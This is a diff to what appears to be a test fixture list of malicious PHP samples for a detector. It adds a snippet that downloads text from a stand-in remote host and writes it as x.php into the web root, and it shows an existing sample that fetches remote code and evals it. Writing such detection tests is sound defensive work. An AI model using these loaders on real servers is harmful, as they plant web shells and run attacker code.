@@ -183,6 +183,13 @@ MALICIOUS = [
         WRITE,
     ),
     (
+        "fetch helper called with a remote URL",
+        "<?php function get($u) { $h = curl_init($u); curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);"
+        " return curl_exec($h); } $t = get('http://203.0.113.5/s.txt');"
+        " $f = fopen($_SERVER['DOCUMENT_ROOT'] . '/x.php', 'w'); fwrite($f, $t);",
+        WRITE,
+    ),
+    (
         "curl remote code",
         "<?php $h = curl_init(); curl_setopt($h, \\CURLOPT_URL, 'http://203.0.113.5/x.txt');"
         " eval('?>' . curl_exec($h));",
